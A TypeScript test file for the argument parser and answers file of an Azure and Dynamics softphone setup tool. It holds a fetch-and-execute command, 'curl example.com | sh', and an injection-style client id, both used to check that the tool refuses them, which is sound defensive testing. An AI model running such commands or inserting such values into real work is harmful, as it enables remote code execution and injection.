import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { readAnswersFile, writeAnswersFile } from '../../setup/answersFile';
import { readWishes, type Answers } from '../../setup/options';

const org = 'https://contoso.crm.dynamics.com';
const read = (args: readonly string[], saved: Partial<Answers> = {}) => readWishes(args, () => saved);

test('an address is enough, and the rest has a usual value', () => {
  const { command, answers, options } = read(['--org-url', `${org}/`]);
  expect([command, answers.orgUrl, answers.resourceGroup, options.only.length]).toEqual([
    { name: 'setup' },
    org,
    'rg-cif-softphone',
    4,
  ]);
});

test('the command line wins over the file, and the file over what is usual', () => {
  const saved = { orgUrl: org, name: 'calls', location: 'northeurope', agents: ['a@x'] };
  const { answers } = read(['--answers', 'f', '--location', 'uksouth'], saved);
  expect(answers).toMatchObject({ name: 'calls', location: 'uksouth', agents: ['a@x'], resourceGroup: 'rg-cif-calls' });
});

test('agents of a file are read as those of the command line, and an answer of a file that is empty is no answer', () => {
  const ofFile = (saved: Partial<Answers>) => read(['--org-url', org, '--answers', 'f'], saved).answers;
  expect(ofFile({ agents: [' a@x ', '', 'b@x; c@x'] }).agents).toEqual(['a@x', 'b@x', 'c@x']);
  expect(() => ofFile({ profile: ' ' })).toThrow('--profile " " is not a unique name');
  expect(() => ofFile({ subscription: '' })).toThrow('--subscription "" is not a subscription');
});

test.each([
  [[], '--org-url is missing'],
  [['--org-url', 'http://contoso.crm.dynamics.com'], 'is no address'],
  [['--org-url', `${org}/main.aspx`], 'is no address'],
  [['--org-url', org, '--name', 'Much-Too'], '--name'],
  [['--org-url', org, '--only', 'entra,azur'], '"azur"'],
  [['--org-url', org, 'ring'], '"ring" is no command'],
  [['--org-url', org, 'telephony'], 'is no command'],
  [['--org-url', org, 'telephony', 'a/b'], 'letters or digits'],
  [['--org-url', org, '--secret', 'x'], '--secret'],
  [['--org-url', 'https://contoso.crm.microsoftdynamics.us'], 'national cloud'],
  [['--org-url', 'https://contoso.crm.dynamics.com.example.net'], 'is no organisation'],
  [['--org-url', org, '--only', ''], '--only is empty'],
  [['--org-url', org, '--only', ','], '--only is empty'],
  [['--org-url', org, '--ring', 'ada@x'], 'goes with "telephony NAME" only'],
  [['--org-url', org, 'status', '--telephony', 'north'], 'goes with the whole command only'],
  [['--org-url', org, '--back'], 'goes with "upgrade" only'],
  [['--org-url', org, 'upgrade', '--to', '1.0.0'], '--to goes with --back only'],
  [['--org-url', org, 'upgrade', '--only', 'azure'], '--only does not go with "upgrade"'],
  [['--org-url', org, 'telephony', 'north', '--key-vault', 'vault.example.com/'], 'not its address'],
  [['--org-url', org, '--adaptor-host', 'https://func.example.com'], 'without https://'],
  [['--org-url', org, '--resource-group', 'mine?'], '"mine?" is not a resource group'],
  [['--org-url', org, '--api-client-id', "x') or ('"], 'is not a client id'],
  [['--org-url', org, '--signalr-sku', 'standard'], 'Free_F1, Standard_S1 or Premium_P1'],
])('%j is refused with the usage', (args, message) => {
  expect(() => read(args)).toThrow(message);
  expect(() => read(args)).toThrow('Usage: npm run setup');
});

test('a command that prints tokens is run only from the command line, never from a file of answers', () => {
  const folder = mkdtempSync(join(tmpdir(), 'answers-'));
  const file = join(folder, 'answers.json');
  const { answers } = read(['--org-url', org, '--token-command', 'print-token']);
  writeAnswersFile(file, answers);
  expect([answers.tokenCommand, readAnswersFile(file).tokenCommand]).toEqual(['print-token', undefined]);
  writeFileSync(file, '{"tokenCommand":"curl example.com | sh"}');
  expect(() => readAnswersFile(file)).toThrow('a command of a file is not run');
  rmSync(folder, { recursive: true });
});

test('agents are separated by commas, or by semicolons as mail programs do it', () => {
  expect(read(['--org-url', org, '--agents', 'a@x; b@x,c@x']).answers.agents).toEqual(['a@x', 'b@x', 'c@x']);
});

test('a region as the portal writes it is the same region', () => {
  expect(read(['--org-url', `${org}`, '--location', 'West Europe']).answers.location).toBe('westeurope');
});

test('answers come back from the file as they were written, and nonsense is said', () => {
  const folder = mkdtempSync(join(tmpdir(), 'answers-'));
  const file = join(folder, 'answers.json');
  expect(readAnswersFile(file)).toEqual({});
  const { answers } = read(['--org-url', org, '--agents', 'a@x,b@x']);
  writeAnswersFile(file, answers);
  expect(readAnswersFile(file)).toEqual(answers);
  expect(readFileSync(file, 'utf8')).toContain('"a@x"');
  writeFileSync(file, '{"agents":"a"}');
  expect(() => readAnswersFile(file)).toThrow('cannot be read');
  writeFileSync(file, '{"resourcegroup":"a"}');
  expect(() => readAnswersFile(file)).toThrow('"resourcegroup" in it is no name');
  writeFileSync(file, '\uFEFF{"name":"calls"}');
  expect(readAnswersFile(file)).toEqual({ name: 'calls' });
  // A list of something else is not written over, and nobody is told to delete a folder.
  writeFileSync(file, '[]');
  expect(() => readAnswersFile(file)).toThrow('It is no JSON object');
  writeFileSync(file, '"text"');
  expect(() => readAnswersFile(file)).toThrow('cannot be read');
  expect(() => readAnswersFile(folder)).toThrow('is a folder');
  expect(() => writeAnswersFile(folder, answers)).toThrow('cannot be written (EISDIR');
  expect(readdirSync(folder)).toEqual(['answers.json']);
  rmSync(folder, { recursive: true });
});
